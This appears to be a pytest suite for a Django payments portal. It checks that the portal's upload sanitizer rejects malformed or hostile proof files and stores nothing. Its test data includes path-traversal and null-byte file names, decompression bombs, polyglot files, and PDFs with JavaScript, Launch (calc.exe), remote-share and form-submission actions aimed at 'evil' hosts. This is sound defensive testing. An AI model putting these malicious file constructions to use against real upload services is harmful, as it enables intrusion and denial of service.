"""What is no proof is refused for its own reason, whatever it is called, and nothing of it is kept."""

import pytest
from django.utils.translation import override
from pikepdf import Array, Dictionary, Name

from payments.ledger import MOST_PROOFS, Unkeepable
from payments.models import ProofFile
from payments.models.proof_file import LARGEST
from portal.proofs.clean import clean
from portal.proofs.faults import ProofFault, ProofRefused
from portal.words import proofs as words
from tests.proofs import samples
from tests.proofs.kept import kept, on_disk
from tests.proofs.samples import MEGABYTE, jpeg, pdf, png, with_action, with_annotation, with_root, with_stream

FLATE = Name.FlateDecode
NAMES = ("proof.pdf", "proof.jpg", "../../etc/passwd", "a\0b.png", "proof.pdf.exe", "a" * 300)

NOT_OURS = {
    "nothing": (lambda: b"", ProofFault.EMPTY),
    "6 MB": (lambda: png() + bytes(6 * MEGABYTE), ProofFault.TOO_LARGE),
    "a byte too much": (lambda: png() + bytes(LARGEST + 1 - len(png())), ProofFault.TOO_LARGE),
    "text": (lambda: b"I have paid twice.", ProofFault.TYPE),
    "SVG with a script": (lambda: samples.SVG, ProofFault.TYPE),
    "HTML": (lambda: samples.HTML, ProofFault.TYPE),
    "GIF": (lambda: samples.saved(samples.picture(), "GIF"), ProofFault.TYPE),
    "archive": (samples.zipped, ProofFault.TYPE),
    "PDF behind HTML": (lambda: samples.HTML + pdf(), ProofFault.TYPE),
    "PDF before HTML": (lambda: pdf() + samples.HTML, ProofFault.TWO_IN_ONE),
    "PDF and archive": (lambda: pdf() + samples.zipped(), ProofFault.TWO_IN_ONE),
    "JPEG and archive": (lambda: jpeg() + samples.zipped(), ProofFault.TWO_IN_ONE),
    "HTML in the comment of a JPEG": (
        lambda: samples.saved(samples.picture(), "JPEG", comment=samples.HTML),
        ProofFault.TWO_IN_ONE,
    ),
}
DAMAGED = {
    "PNG that breaks off": lambda: png((400, 400))[:-60],
    "JPEG that breaks off": lambda: jpeg((400, 400))[:-600],
    "JPEG that has just begun": lambda: jpeg()[:40],
    "first bytes of a JPEG": lambda: b"\xff\xd8\xff",
    "first bytes of a PNG": lambda: b"\x89PNG\r\n\x1a\n",
    "first bytes of a PDF": lambda: b"%PDF-",
    "PDF that breaks off": lambda: pdf()[:-60],
    "PDF without a page": lambda: pdf(lambda made: made.pages.__delitem__(0)),
    "PDF whose packing is broken": lambda: with_stream(b"no packing", FLATE),
    "PDF with a picture of no size": lambda: with_stream(b"", FLATE, Subtype=Name.Image, Width=Name.X, Height=1),
}
TOO_MUCH = {
    "PNG of 3600 megapixels": (lambda: samples.png_of(60_000, 60_000), ProofFault.TOO_MANY_PIXELS),
    "JPEG of 4290 megapixels": (lambda: samples.jpeg_of(65_500, 65_500), ProofFault.TOO_MANY_PIXELS),
    "picture in a PDF": (
        lambda: with_stream(b"", Name.JPXDecode, Subtype=Name.Image, Width=60_000, Height=60_000),
        ProofFault.TOO_MANY_PIXELS,
    ),
    "photograph drawn 300 times": (lambda: samples.jpeg_of_passes(300), ProofFault.TOO_MUCH_INSIDE),
    "PDF that unpacks to 81 MB": (
        lambda: with_stream(samples.zeros(81 * MEGABYTE), FLATE),
        ProofFault.TOO_MUCH_INSIDE,
    ),
    "PDF packed twice": (
        lambda: with_stream(samples.zeros(81 * MEGABYTE, times=2), Array([FLATE, FLATE])),
        ProofFault.TOO_MUCH_INSIDE,
    ),
    "PDF packed three times": (
        lambda: with_stream(samples.zeros(1, times=3), Array([FLATE] * 3)),
        ProofFault.TOO_MUCH_INSIDE,
    ),
    "photograph in a PDF, packed": (
        lambda: with_stream(samples.zeros(121 * MEGABYTE), Array([FLATE, Name.DCTDecode])),
        ProofFault.TOO_MUCH_INSIDE,
    ),
    "PDF packed as in old times": (
        lambda: with_stream(bytes(65 * 1024), Name.LZWDecode),
        ProofFault.TOO_MUCH_INSIDE,
    ),
    "PDF of many parts": (lambda: with_root(Extra=Array([0] * 400_001)), ProofFault.TOO_MUCH_INSIDE),
    "PDF of three that are large together": (
        lambda: pdf(
            lambda made: setattr(made.Root, "Extra", Array([large(made) for _ in range(3)])), **samples.AS_IT_IS
        ),
        ProofFault.TOO_MUCH_INSIDE,
    ),
}
SCRIPT = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
ACTIVE = {
    "script at the opening": lambda: with_action(SCRIPT),
    "script by its name": lambda: with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", SCRIPT])))),
    "script written in another way": samples.hidden_script,
    "script packed with other objects": samples.in_an_object_stream,
    "script after another action": lambda: with_action(Dictionary(S=Name.GoTo, D="a", Next=Array([SCRIPT]))),
    "program": lambda: with_action(Dictionary(S=Name.Launch, F="calc.exe")),
    "another file": lambda: with_action(Dictionary(S=Name.GoToR, F="//evil/share")),
    "sending of a form": lambda: with_annotation(A=Dictionary(S=Name.SubmitForm, F="https://evil.example")),
    "what happens by itself": lambda: with_root(AA=Dictionary(WC=Dictionary(S=Name.Named, N=Name.Print))),
    "form with a language of its own": lambda: with_root(AcroForm=Dictionary(XFA="<xdp/>")),
    "file within": lambda: pdf(lambda made: made.attachments.__setitem__("a.exe", b"MZ")),
    "film": lambda: with_annotation(Subtype=Name.RichMedia),
    "address that is a script": lambda: with_annotation(A=Dictionary(S=Name.URI, URI=" JavaScript:alert(1)")),
}
PROTECTED = {"against changes": samples.encrypted, "by a password": lambda: samples.encrypted("user")}
TORTURE = (
    NOT_OURS
    | {name: (make, ProofFault.DAMAGED) for name, make in DAMAGED.items()}
    | TOO_MUCH
    | {f"PDF with {name}": (make, ProofFault.ACTIVE) for name, make in ACTIVE.items()}
    | {f"PDF protected {name}": (make, ProofFault.ENCRYPTED) for name, make in PROTECTED.items()}
)


def large(made):
    """A stream of 60 MB, which is not too much by itself."""
    stream = made.make_stream(b"")
    stream.write(samples.zeros(60 * MEGABYTE), filter=FLATE)
    return stream


@pytest.mark.django_db
@pytest.mark.parametrize("name", TORTURE)
def test_refused_for_its_own_reason_and_nothing_is_kept(name: str, caplog) -> None:
    make, fault = TORTURE[name]
    with pytest.raises(ProofRefused) as refused:
        kept(make())
    assert refused.value.fault is fault
    assert on_disk() == []
    assert not ProofFile.objects.exists()
    assert caplog.messages == []  # the child said it itself: nothing broke


@pytest.mark.django_db
@pytest.mark.parametrize("name", NAMES)
def test_a_name_changes_nothing(name: str) -> None:
    with pytest.raises(ProofRefused) as refused:
        kept(samples.SVG, name=name)
    assert refused.value.fault is ProofFault.TYPE
    proof = kept(jpeg(), name=name)
    assert proof.type == "jpeg"
    assert [path.name for path in on_disk()] == [proof.name.hex]


LINK = Dictionary(S=Name.URI, URI="https://bank.example/")
HONEST = {
    "a link": lambda: with_annotation(Subtype=Name.Link, A=LINK),
    "a page to open at": lambda: with_action(Array([0, Name.Fit])),
    "a form without scripts": lambda: with_root(AcroForm=Dictionary(Fields=Array([]))),
    "a large page": lambda: with_stream(samples.zeros(60 * MEGABYTE), FLATE),
    "a name that is no text": samples.name_that_is_no_text,
    "a scan": lambda: with_stream(jpeg(), Name.DCTDecode, Subtype=Name.Image, Width=60, Height=40),
    "a scan, packed": lambda: with_stream(samples.zeros(9), Array([FLATE, Name.DCTDecode])),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_files_hold_is_taken(name: str) -> None:
    assert clean(HONEST[name]()).type == "pdf"


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_each_fault_has_its_own_sentence(language: str) -> None:
    with override(language):
        said = [words.fault(fault) for fault in ProofFault] + [words.unkeepable(code) for code in Unkeepable]
    assert len({*said}) == len(ProofFault) + len(Unkeepable)
    assert all(sentence.endswith(".") for sentence in said)


def test_the_sentences_name_the_limits_that_hold() -> None:
    assert (LARGEST, MOST_PROOFS) == (5 * MEGABYTE, 3)
